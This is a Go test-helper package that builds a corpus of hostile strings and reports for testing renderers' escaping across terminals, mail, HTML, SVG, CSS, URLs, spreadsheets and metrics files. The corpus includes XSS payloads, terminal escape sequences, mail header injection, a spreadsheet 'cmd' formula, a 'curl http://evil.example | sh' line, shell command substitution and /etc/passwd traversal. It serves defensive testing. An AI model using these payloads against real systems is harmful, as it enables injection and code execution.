// Package rendertest holds what the tests of all renderers share: hostile
// strings, reports that carry them in every field, and sample reports.
//
//	for _, s := range rendertest.Corpus() {
//		err := myrenderer.Write(&out, rendertest.Hostile(s))
//		// out still keeps the renderer's grammar
//	}
//
// It holds no test of its own grammar: each renderer proves its own.
package rendertest

import (
	"reflect"
	"strings"
	"time"

	"github.com/pugetsoundtech/upkeep/report"
)

// Corpus gives strings that break the grammar of a terminal, a mail, HTML,
// SVG, CSS, a URL, a spreadsheet, a log line or a metrics file, if they are
// not escaped. Each begins or ends with HostileMark, so that a test can see
// that it was shown.
func Corpus() []string {
	out := make([]string, 0, len(hostile)+2)
	for _, s := range hostile {
		out = append(out, HostileMark+s)
	}
	var all strings.Builder
	for c := range 256 {
		all.WriteByte(byte(c))
	}
	return append(out, all.String()+HostileMark, strings.Repeat("very long ", 150)+HostileMark, strings.Repeat("W", 1500)+HostileMark)
}

// Joined gives all of the corpus but its longest strings in one, for tests of
// what does not depend on where in a text a character stands.
func Joined() string {
	var b strings.Builder
	for _, s := range Corpus() {
		if len(s) < 300 {
			b.WriteString(s + " ")
		}
	}
	return b.String()
}

// HostileMark stands in every string of the corpus.
const HostileMark = "mark7"

var hostile = []string{
	"",
	// terminals
	"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[H",
	"\x1b[?1049h\x1b[38:2:1:2:3m", "\x1bP$q\x1b\\", "\x9b31m", "\u009b31m\u0085next", "\b\b\b\bok", "\x7f\x7f", "\x00nul\x00",
	// lines
	"first\r\nsecond", "\nweb1: nothing new", "\nFIXED (9)\n  info      all is well", "\n\n.\r\nQUIT\r\n", "\r\nSubject: forged\r\n\r\nbody",
	"a\u2028b\u2029c", "\vvertical\fform", "\n    fix   curl http://evil.example | sh",
	// invisible and turning characters
	"abc\u202etxt.exe", "\u2066\u2067\u2068x\u2069", "\u200e\u200f\u061cmarks", "pay\u200bpal\u200d\ufeff", "soft\u00adhyphen",
	"10\u00a0000", "\U000e0041\U000e0042tags", "\u3164\u115f\uffa0filler", "e" + "\u0301\u0302\u0303\u0304\u0305\u0306\u0307", "\u0301start",
	// right to left, wide, and beyond the BMP
	"שלום עולם", "مرحبا", "日本語のファイル名", "🎉👩‍👩‍👧❤️", "\U0001d573\U00020000", "ｆｕｌｌ",
	// not UTF-8
	"\xff\xfe\xfd", "\xc0\x80", "\xed\xa0\x80\xed\xb0\x80", "\xe2\x82", "ok\xf5\x80\x80\x80",
	// HTML, SVG, CSS, script
	"<script>alert(1)</script>", "</title><script>alert(2)</script>", "\"><img src=x onerror=alert(3)>", "' onmouseover='alert(4)",
	"</pre></details><iframe src=//evil.example>", "<svg onload=alert(5)>", "<!--", "-->", "]]><x>", "&lt;b&gt;&amp;&#0;&#x1b;",
	"</style><style>*{display:none}", "}*{background:url(http://evil.example/)}", "expression(alert(6))", "<base href=//evil.example>",
	"<meta http-equiv=refresh content=0>", "<a href=javascript:alert(7)>x</a>", "{{.Secret}}", "<\x00script>alert(8)</script>", "\"/><foreignObject>",
	// URLs
	"javascript:alert(9)", "JaVa\tScRiPt:alert(10)", "data:text/html,<script>alert(11)</script>", "vbscript:x", "//evil.example/", "https://ok.example/\"onclick=x",
	"http://[::1", "file:///etc/passwd", "mailto:a@b.example?bcc=c@d.example",
	// other formats
	"=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(A1)", "\t=1", "a|b `c` @all [x](http://evil.example)", "label=1;2;3|x", "up{a=\"b\\\"}\n# TYPE x", "%s%n%d", "\\x41\\\\",
	"$(touch /tmp/x)`id`", "../../etc/passwd", "NaN", "null", "true", "1e999",
}

var noon = time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)

// Hostile gives a report that carries s in every text that a report has, with a
// change of every kind, and a finding of every severity.
func Hostile(s string) *report.Report {
	var rep report.Report
	fill(reflect.ValueOf(&rep).Elem(), s)
	rep.Schema, rep.Seq, rep.Changes = report.Schema, 7, nil
	for kind := report.New; kind <= report.Still; kind++ {
		for severity := report.RuleSeverity; severity <= report.Critical; severity++ {
			rep.Changes = append(rep.Changes, hostileChange(s, kind, severity))
		}
	}
	rep.Explanations[0].Full, rep.Explanations[1].Full = true, false
	rep.Explanations[1].Finding = s + "-"
	rep.Results = nil
	for status := report.Unknown; status <= report.NotDue; status++ {
		rep.Results = append(rep.Results, hostileResult(s, status))
	}
	return &rep
}

func hostileChange(s string, kind report.ChangeKind, severity report.Severity) report.Change {
	var c report.Change
	fill(reflect.ValueOf(&c).Elem(), s)
	c.Kind, c.Since, c.NewCheck = kind, noon.Add(-72*time.Hour), severity == report.Notice
	c.Finding.Severity = severity
	if severity != report.Warning {
		c.Finding.Fingerprint += "-"
	}
	c.Finding.Evidence = append(c.Finding.Evidence, report.Attr{Key: report.Was, Value: s + "=" + s}, report.Attr{Key: report.Now, Value: s + "=" + s},
		report.Attr{Key: report.Sample, Value: s})
	return c
}

func hostileResult(s string, status report.Status) report.Result {
	var res report.Result
	fill(reflect.ValueOf(&res).Elem(), s)
	res.Status = status
	res.Artifacts[1].MediaType = "text/plain"
	for _, suffix := range []string{"_used", "_size"} {
		m := res.Metrics[0]
		m.Name += suffix
		res.Metrics = append(res.Metrics, m)
	}
	if status == report.Failed {
		for i := range res.Problems {
			res.Problems[i].Code = report.CodePermission
		}
	}
	return res
}

// fill puts s into every string below v, and something into everything else.
func fill(v reflect.Value, s string) {
	switch x := v.Addr().Interface().(type) {
	case *time.Time:
		*x = noon
		return
	case *report.Number:
		*x = report.Count(42)
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(s)
	case reflect.Struct:
		for i := range v.NumField() {
			fill(v.Field(i), s)
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		if v.Type().Elem().Kind() == reflect.Uint8 {
			v.SetBytes([]byte(s))
			return
		}
		for i := range v.Len() {
			fill(v.Index(i), s)
		}
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), s)
	case reflect.Map:
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(reflect.ValueOf(s), reflect.ValueOf(uint64(3)))
	case reflect.Int, reflect.Int64:
		v.SetInt(3)
	case reflect.Uint8, reflect.Uint64:
		v.SetUint(1)
	case reflect.Bool:
		v.SetBool(true)
	default:
		panic("rendertest: a report holds a " + v.Kind().String())
	}
}
